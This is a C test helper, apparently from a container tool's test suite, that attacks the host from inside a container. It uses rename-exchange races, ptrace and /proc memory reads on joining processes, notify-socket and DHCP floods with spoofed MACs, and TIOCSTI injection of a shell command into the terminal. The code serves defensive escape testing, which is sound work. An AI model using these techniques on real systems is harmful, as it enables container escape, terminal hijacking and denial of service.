/* A hostile machine root, for tests/tests/hostile.rs: run as root inside a
 * machine (static, needs nothing there), it attacks the host tools that
 * serve the machine while the test drives them from the host. Every mode
 * runs until /stop exists, then writes what it did to OUT.
 *
 *   hostile exchange A B OUT   swap A and B (renameat2 RENAME_EXCHANGE) as
 *                              fast as it can: a directory and a symlink,
 *                              a file and a FIFO
 *   hostile grow FILE OUT      append to FILE without end
 *   hostile ptrace OUT         wait for each new process of the PID
 *                              namespace and try ptrace, process_vm_readv,
 *                              /proc/PID/mem, /fd, /environ and /exe on
 *                              it; ESCAPED when one gave away something
 *                              of the host's (see attack())
 *   hostile notify OUT         flood $NOTIFY_SOCKET: 64 KiB messages, ones
 *                              carrying 250 descriptors (SCM_RIGHTS, the
 *                              socket itself among them), bogus MAINPID=,
 *                              garbage
 *   hostile tiocsti OUT        once: push a command into the terminal on
 *                              each of 0, 1, 2 (TIOCSTI), as a root that
 *                              wants the host's shell to run it after
 *                              `nspawnctl shell` ends; reports per fd
 *   hostile dhcp OUT           flood the DHCP server from host0: garbage,
 *                              truncated and oversized datagrams, options
 *                              running past the end, and well-formed
 *                              requests for another MAC and with ciaddr
 *                              elsewhere; counts answers to that MAC
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <sys/ioctl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <net/if.h>
#include <netinet/in.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static int stopped(void) { return access("/stop", F_OK) == 0; }

static void report(const char *out, const char *text) {
    int fd = open(out, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
    if (fd >= 0) {
        (void)!write(fd, text, strlen(text));
        close(fd);
    }
}

static int exchange(const char *a, const char *b, const char *out) {
    unsigned long n = 0, failed = 0;
    while (!stopped()) {
        for (int i = 0; i < 1000; i++, n++)
            if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) < 0)
                failed++;
    }
    char buf[128];
    snprintf(buf, sizeof buf, "exchanged %lu failed %lu\n", n, failed);
    report(out, buf);
    return 0;
}

static int grow(const char *file, const char *out) {
    static char chunk[1 << 20];
    memset(chunk, 'g', sizeof chunk);
    int fd = open(file, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
    if (fd < 0)
        return 1;
    unsigned long n = 0;
    while (!stopped()) {
        /* Keep the file from filling the machine's own disk: start over
         * when it is big, as a log that is rotated. */
        if (write(fd, chunk, sizeof chunk) < 0 || ++n % 64 == 0)
            (void)!ftruncate(fd, 0);
    }
    char buf[64];
    snprintf(buf, sizeof buf, "grew %lu MiB\n", n);
    report(out, buf);
    return 0;
}

static long last_pid(void) {
    char buf[32] = {0};
    int fd = open("/proc/sys/kernel/ns_last_pid", O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return -1;
    (void)!read(fd, buf, sizeof buf - 1);
    close(fd);
    return atol(buf);
}

/* What counts as reaching the joining process is what it would give away,
 * read from the very memory map or file the access obtained (a process
 * in the middle of execve has its new map, made dumpable, a moment before
 * its name changes, and is by then the machine's own):
 *   - its environment holds HOSTILE_MARKER (set for nspawnctl by the test,
 *     never passed into the machine);
 *   - its executable, or a file it maps, is neither the machine's busybox
 *     nor a sealed memfd (nspawn-inner): it is a host file, nspawnctl or
 *     the host's libc, which root without -U could open for writing;
 *   - it has a descriptor above 2 (the joiner's host ones; the program it
 *     runs has 0-2 only). */
#define MARKER "HOSTILE_MARKER="

static int holds_marker(const char *buf, size_t n) {
    size_t m = strlen(MARKER);
    for (size_t i = 0; i + m <= n; i++)
        if (memcmp(buf + i, MARKER, m) == 0)
            return 1;
    return 0;
}

static int environ_leaks(int fd) {
    static char buf[1 << 16];
    ssize_t n = read(fd, buf, sizeof buf);
    return n > 0 && holds_marker(buf, n);
}

static struct stat busybox;

static unsigned long tries, denied, escaped, reached;

static void got(const char *out, const char *how, long pid) {
    char buf[1024];
    escaped++;
    snprintf(buf, sizeof buf, "ESCAPED %s pid %ld\n", how, pid);
    report(out, buf);
}

/* Fields 50 and 51 of /proc/PID/stat: where its environment lies. */
static int env_range(long pid, unsigned long *start, unsigned long *end) {
    char path[64], buf[4096] = {0};
    snprintf(path, sizeof path, "/proc/%ld/stat", pid);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return -1;
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (n <= 0)
        return -1;
    char *p = strrchr(buf, ')');
    if (!p)
        return -1;
    /* Field 3 starts after ") "; count on to field 50. */
    int field = 2;
    for (; *p && field < 49; p++)
        if (*p == ' ')
            field++;
    if (sscanf(p, "%lu %lu", start, end) != 2 || *start == 0 || *end <= *start)
        return -1;
    if (*end - *start > 65536)
        *end = *start + 65536;
    return 0;
}

/* An executable or mapped file of the process: the machine's busybox is
 * its own; a memfd sealed against writing is nspawn-inner (reaching it
 * counts, it gives nothing away); anything else is the host's. */
static void check_file(const char *path, const char *out, const char *how, long pid) {
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return;
    struct stat st;
    if (fstat(fd, &st) == 0 && (st.st_dev != busybox.st_dev || st.st_ino != busybox.st_ino)) {
        int seals = fcntl(fd, F_GET_SEALS);
        if (seals >= 0 && (seals & F_SEAL_WRITE))
            reached++;
        else
            got(out, how, pid);
    }
    close(fd);
}

static void attack(long pid, const char *out) {
    char path[64];
    tries++;
    if (ptrace(PTRACE_ATTACH, pid, 0, 0) == 0) {
        int st;
        waitpid(pid, &st, __WALL);
        snprintf(path, sizeof path, "/proc/%ld/environ", pid);
        int fd = open(path, O_RDONLY | O_CLOEXEC);
        if (fd >= 0 && environ_leaks(fd))
            got(out, "ptrace", pid);
        if (fd >= 0)
            close(fd);
        ptrace(PTRACE_DETACH, pid, 0, 0);
        /* Attached just before its exec, the exec's SIGTRAP may have been
         * the stop we saw, and the SIGSTOP of PTRACE_ATTACH then stops it
         * for good once detached: let it go on. */
        kill(pid, SIGCONT);
    } else if (errno == EPERM) {
        denied++;
    }
    unsigned long start, end;
    if (env_range(pid, &start, &end) == 0) {
        static char buf[65536];
        struct iovec l = {buf, end - start}, r = {(void *)start, end - start};
        ssize_t n = process_vm_readv(pid, &l, 1, &r, 1, 0);
        if (n > 0 && holds_marker(buf, n))
            got(out, "process_vm_readv", pid);
        snprintf(path, sizeof path, "/proc/%ld/mem", pid);
        int fd = open(path, O_RDONLY | O_CLOEXEC);
        if (fd >= 0) {
            n = pread(fd, buf, end - start, start);
            if (n > 0 && holds_marker(buf, n))
                got(out, "mem", pid);
            close(fd);
        }
    }
    snprintf(path, sizeof path, "/proc/%ld/environ", pid);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd >= 0) {
        if (environ_leaks(fd))
            got(out, "environ", pid);
        close(fd);
    }
    snprintf(path, sizeof path, "/proc/%ld/exe", pid);
    check_file(path, out, "exe", pid);
    snprintf(path, sizeof path, "/proc/%ld/map_files", pid);
    DIR *maps = opendir(path);
    if (maps) {
        struct dirent *e;
        char file[320];
        while ((e = readdir(maps)))
            if (e->d_name[0] != '.') {
                snprintf(file, sizeof file, "%s/%s", path, e->d_name);
                check_file(file, out, "map_files", pid);
            }
        closedir(maps);
    }
    snprintf(path, sizeof path, "/proc/%ld/fd", pid);
    DIR *d = opendir(path);
    if (d) {
        struct dirent *e;
        while ((e = readdir(d)))
            if (e->d_name[0] != '.' && atoi(e->d_name) > 2) {
                char fdp[400], tgt[256] = {0}, cmd[256] = {0}, how[700];
                snprintf(fdp, sizeof fdp, "%s/%s", path, e->d_name);
                readlink(fdp, tgt, sizeof tgt - 1);
                snprintf(fdp, sizeof fdp, "/proc/%ld/cmdline", pid);
                int cf = open(fdp, O_RDONLY | O_CLOEXEC);
                if (cf >= 0) {
                    ssize_t k = read(cf, cmd, sizeof cmd - 1);
                    for (ssize_t i = 0; i < k; i++)
                        if (!cmd[i]) cmd[i] = ' ';
                    close(cf);
                }
                snprintf(how, sizeof how, "fd %s -> %s [%s]", e->d_name, tgt, cmd);
                got(out, how, pid);
                break;
            }
        closedir(d);
    }
}

static int trace(const char *out) {
    if (stat("/bin/busybox", &busybox) < 0) {
        report(out, "SETUP no /bin/busybox\n");
        return 1;
    }
    /* First, that ptrace works here at all (the machine's system call
     * filter lets it through): on a child of our own. */
    pid_t child = fork();
    if (child == 0) {
        pause();
        _exit(0);
    }
    if (ptrace(PTRACE_ATTACH, child, 0, 0) < 0) {
        char buf[64];
        snprintf(buf, sizeof buf, "SETUP ptrace: %s\n", strerror(errno));
        report(out, buf);
        kill(child, SIGKILL);
        return 1;
    }
    kill(child, SIGKILL);
    waitpid(child, NULL, __WALL);
    while (!stopped()) {
        long last = last_pid();
        /* The newest process, and the next one. */
        for (long pid = last; pid <= last + 1; pid++)
            if (pid > 1 && pid != getpid())
                attack(pid, out);
    }
    char buf[128];
    snprintf(buf, sizeof buf, "tries %lu denied %lu escaped %lu reached %lu\n", tries, denied,
             escaped, reached);
    report(out, buf);
    return 0;
}

static int notify_flood(const char *out) {
    const char *path = getenv("NOTIFY_SOCKET");
    if (!path)
        path = "/run/host/notify";
    struct sockaddr_un addr = {.sun_family = AF_UNIX};
    strncpy(addr.sun_path, path, sizeof addr.sun_path - 1);
    int sock = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    int null = open("/dev/null", O_RDONLY | O_CLOEXEC);
    if (sock < 0 || null < 0) {
        report(out, "SETUP socket\n");
        return 1;
    }
    /* SCM_MAX_FD is 253. */
    enum { NFDS = 250 };
    int fds[NFDS];
    fds[0] = sock;
    for (int i = 1; i < NFDS; i++)
        fds[i] = i % 2 ? null : sock;
    static char huge[65536];
    memset(huge, 'x', sizeof huge);
    memcpy(huge, "READY=1\nMAINPID=", 16);
    const char *bogus[] = {"MAINPID=-1\n", "MAINPID=0", "MAINPID=1", "MAINPID=99999999999999",
                           "READY=1\nSTATUS=\x1b]0;owned\x07", "\xff\xfe=\n=\n\n", ""};
    unsigned long sent = 0, with_fds = 0, big = 0, refused = 0, n = 0;
    while (!stopped()) {
        for (int i = 0; i < 100; i++, n++) {
            struct iovec iov;
            struct msghdr m = {.msg_name = &addr, .msg_namelen = sizeof addr,
                               .msg_iov = &iov, .msg_iovlen = 1};
            union {
                char buf[CMSG_SPACE(sizeof fds)];
                struct cmsghdr align;
            } c;
            int kind = n % 4;
            if (kind == 0) {
                iov = (struct iovec){huge, sizeof huge};
            } else if (kind == 1) {
                iov = (struct iovec){"READY=1\nMAINPID=1\n", 18};
                m.msg_control = c.buf;
                m.msg_controllen = sizeof c.buf;
                struct cmsghdr *h = CMSG_FIRSTHDR(&m);
                h->cmsg_level = SOL_SOCKET;
                h->cmsg_type = SCM_RIGHTS;
                h->cmsg_len = CMSG_LEN(sizeof fds);
                memcpy(CMSG_DATA(h), fds, sizeof fds);
            } else {
                const char *b = bogus[n % (sizeof bogus / sizeof *bogus)];
                iov = (struct iovec){(char *)b, strlen(b)};
            }
            if (sendmsg(sock, &m, MSG_DONTWAIT) < 0) {
                refused++;
                continue;
            }
            sent++;
            with_fds += kind == 1;
            big += kind == 0;
        }
        /* A full queue refuses at once; give the runner a moment, or we
         * only spin. */
        if (refused > sent)
            usleep(100);
    }
    char buf[160];
    snprintf(buf, sizeof buf, "sent %lu with_fds %lu big %lu refused %lu\n", sent, with_fds, big,
             refused);
    report(out, buf);
    return 0;
}

static const unsigned char spoofed_mac[6] = {0x02, 0xde, 0xad, 0xbe, 0xef, 0x01};

/* A BOOTREQUEST of type KIND for MAC into P (at least 300 bytes); its
 * length. */
static size_t bootrequest(unsigned char *p, int kind, const unsigned char *mac, uint32_t ciaddr) {
    memset(p, 0, 300);
    p[0] = 1, p[1] = 1, p[2] = 6;
    p[4] = 0x5e, p[5] = 0x5e;
    memcpy(p + 12, &ciaddr, 4);
    memcpy(p + 28, mac, 6);
    const unsigned char tail[] = {99, 130, 83, 99, 53, 1, kind, 255};
    memcpy(p + 236, tail, sizeof tail);
    return 236 + sizeof tail;
}

static int dhcp_flood(const char *out) {
    int s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    int on = 1;
    setsockopt(s, SOL_SOCKET, SO_BROADCAST, &on, sizeof on);
    setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
    if (setsockopt(s, SOL_SOCKET, SO_BINDTODEVICE, "host0", 6) < 0) {
        report(out, "SETUP no host0\n");
        return 1;
    }
    struct sockaddr_in me = {.sin_family = AF_INET, .sin_port = htons(68)};
    if (bind(s, (struct sockaddr *)&me, sizeof me) < 0) {
        report(out, "SETUP bind 68\n");
        return 1;
    }
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(67),
                             .sin_addr.s_addr = htonl(INADDR_BROADCAST)};
    static unsigned char p[9000];
    unsigned long sent = 0, failed = 0, answered = 0, n = 0, seed = 1;
    while (!stopped()) {
        for (int i = 0; i < 64; i++, n++) {
            size_t len;
            seed = seed * 6364136223846793005UL + 1442695040888963407UL;
            switch (n % 8) {
            case 0: /* garbage of any length up to an MTU */
                len = (seed >> 33) % 1500;
                for (size_t j = 0; j < len; j++)
                    p[j] = seed >> (j % 56);
                break;
            case 1: /* a request cut short */
                len = bootrequest(p, 3, spoofed_mac, 0) - 1 - (seed >> 40) % 200;
                break;
            case 2: /* oversized: more than the server reads */
                bootrequest(p, 1, spoofed_mac, 0);
                memset(p + 243, 0, 8000);
                len = 8000;
                break;
            case 3: /* an option running past the end */
                len = bootrequest(p, 1, spoofed_mac, 0) - 1;
                p[len++] = 12, p[len++] = 255, p[len++] = 'h';
                break;
            case 4: /* another machine's MAC, well formed */
                len = bootrequest(p, 1 + (n / 8) % 3 * 2, spoofed_mac, 0);
                break;
            case 5: /* ciaddr elsewhere: the host must not send there */
                len = bootrequest(p, 8, spoofed_mac, htonl(0x08080808));
                break;
            default: /* a DISCOVER with hlen 16 and our MAC field garbage */
                len = bootrequest(p, 1, spoofed_mac, 0);
                p[2] = 16;
                break;
            }
            if (sendto(s, p, len, MSG_DONTWAIT, (struct sockaddr *)&to, sizeof to) < 0)
                failed++;
            else
                sent++;
        }
        /* Answers to the spoofed MAC: there must be none. */
        ssize_t r;
        while ((r = recv(s, p, sizeof p, MSG_DONTWAIT)) >= 0)
            if (r >= 34 && p[0] == 2 && memcmp(p + 28, spoofed_mac, 6) == 0)
                answered++;
        usleep(200);
    }
    char buf[160];
    snprintf(buf, sizeof buf, "sent %lu failed %lu answered_spoofed %lu\n", sent, failed, answered);
    report(out, buf);
    return 0;
}

static int tiocsti(const char *out) {
    const char *cmd = "touch /tmp/INJECTED\n";
    char buf[200];
    for (int fd = 0; fd < 3; fd++) {
        int pushed = 0, err = 0;
        for (const char *p = cmd; *p; p++) {
            if (ioctl(fd, TIOCSTI, p) < 0) {
                err = errno;
                break;
            }
            pushed++;
        }
        snprintf(buf, sizeof buf, "fd %d tty %d pushed %d %s\n", fd, isatty(fd), pushed,
                 err ? strerror(err) : "ok");
        report(out, buf);
    }
    return 0;
}

int main(int argc, char **argv) {
    signal(SIGPIPE, SIG_IGN);
    if (argc == 5 && strcmp(argv[1], "exchange") == 0)
        return exchange(argv[2], argv[3], argv[4]);
    if (argc == 4 && strcmp(argv[1], "grow") == 0)
        return grow(argv[2], argv[3]);
    if (argc == 3 && strcmp(argv[1], "ptrace") == 0)
        return trace(argv[2]);
    if (argc == 3 && strcmp(argv[1], "notify") == 0)
        return notify_flood(argv[2]);
    if (argc == 3 && strcmp(argv[1], "dhcp") == 0)
        return dhcp_flood(argv[2]);
    if (argc == 3 && strcmp(argv[1], "tiocsti") == 0)
        return tiocsti(argv[2]);
    fprintf(stderr,
            "usage: hostile exchange A B OUT | grow FILE OUT | ptrace OUT | notify OUT | dhcp OUT"
            " | tiocsti OUT\n");
    return 2;
}
